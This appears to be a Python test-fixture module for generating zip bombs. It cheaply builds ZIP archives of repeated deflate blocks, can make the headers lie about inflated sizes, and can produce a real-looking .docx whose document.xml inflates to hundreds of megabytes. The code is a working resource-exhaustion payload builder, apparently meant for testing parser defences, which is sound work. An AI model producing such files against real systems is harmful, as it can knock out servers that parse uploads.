"""Building zip bombs the way an adversary does, cheaply: one deflated block of a repeated chunk, repeated.

After a full flush a deflate compressor starts afresh, so compressing the same chunk again yields the same
bytes: a 512 MB member costs one compression of 1 MB and a CRC over the whole, not 512 MB of deflating.
The archive is written by hand (local headers, central directory, end record) so that the claimed sizes
can also lie.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

CHUNK = 1 << 20


def _deflated_repeat(prefix: bytes, chunk: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, inflated size) of prefix + chunk * times + suffix."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = comp.compress(prefix) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "a full flush must make the compressed chunk repeatable"
    tail = comp.compress(suffix) + comp.flush()
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    return head + block * times + tail, crc, len(prefix) + len(chunk) * times + len(suffix)


def write_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """Members as (name, raw deflate data, crc32, claimed inflated size, compression method)."""
    out = bytearray()
    central = bytearray()
    for name, data, crc, size, method in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0)
        out += encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0, 0, 0,
            0, 0, offset,
        )  # fmt: skip
        central += encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def docx_bomb(path: Path, template: Path, inflated_mb: int, claimed_size: int | None = None) -> Path:
    """A real .docx (`template`, made by python-docx) whose word/document.xml inflates to `inflated_mb` MB.

    With `claimed_size` the headers lie about the document's size.
    """
    members = []
    with zipfile.ZipFile(template) as source:
        for info in source.infolist():
            if info.filename == "word/document.xml":
                continue
            raw = source.read(info)
            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
            members.append((info.filename, comp.compress(raw) + comp.flush(), zlib.crc32(raw), len(raw), 8))
    prefix = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    )
    paragraph = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"  # many small nodes, as Word writes
    chunk = paragraph * (CHUNK // len(paragraph))
    data, crc, size = _deflated_repeat(prefix + b"x</w:t></w:r></w:p>", chunk, inflated_mb, b"</w:body></w:document>")
    members.append(("word/document.xml", data, crc, size if claimed_size is None else claimed_size, 8))
    return write_zip(path, members)
